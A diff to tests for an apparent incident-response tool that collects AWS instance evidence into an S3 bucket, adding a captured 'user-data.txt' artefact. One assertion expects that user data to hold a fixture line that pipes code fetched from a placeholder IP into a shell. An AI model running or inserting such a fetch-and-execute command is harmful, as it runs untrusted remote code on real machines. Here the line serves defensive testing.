@@ -25,7 +25,7 @@ def test_collect_gathers_the_instance_its_volumes_groups_interfaces_profile_and_
     result = collect(boto3.Session(), world["instance"], "us-east-1")
 
     bodies = {a.name: a.body for a in result.artefacts}
-    assert set(bodies) == {"instance.json", "volumes.json", "network-interfaces.json", "security-groups.json", "instance-profile.json", "console-output.txt"}
+    assert set(bodies) == {"instance.json", "volumes.json", "network-interfaces.json", "security-groups.json", "instance-profile.json", "console-output.txt", "user-data.txt"}
     assert result.notes == []
     instance = json.loads(bodies["instance.json"])["Instance"]
     assert instance["InstanceId"] == world["instance"]
@@ -39,6 +39,7 @@ def test_collect_gathers_the_instance_its_volumes_groups_interfaces_profile_and_
     assert profile["InstanceProfile"]["Arn"] == world["profile"]
     assert profile["RolePolicies"][0]["AttachedPolicies"][0]["PolicyName"] == "web-read-s3-us-east-1"
     assert bodies["console-output.txt"].strip()
+    assert bodies["user-data.txt"] == b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
     assert result.facts["identity"]["account"]
 
 
@@ -64,7 +65,7 @@ def test_collect_job_stores_locked_evidence_with_digests_and_reports_it(irbot_en
     s3 = boto3.client("s3")
     assert outcome["ok"] is True
     names = sorted(o["key"].rsplit("/", 1)[-1] for o in outcome["objects"])
-    assert names == sorted(["instance.json", "volumes.json", "network-interfaces.json", "security-groups.json", "instance-profile.json", "console-output.txt", "manifest.json"])
+    assert names == sorted(["instance.json", "volumes.json", "network-interfaces.json", "security-groups.json", "instance-profile.json", "console-output.txt", "user-data.txt", "manifest.json"])
     for stored in outcome["objects"]:
         assert stored["key"].startswith(f"{CHANNEL}/{world['instance']}/")
         obj = s3.get_object(Bucket="ir-evidence", Key=stored["key"])
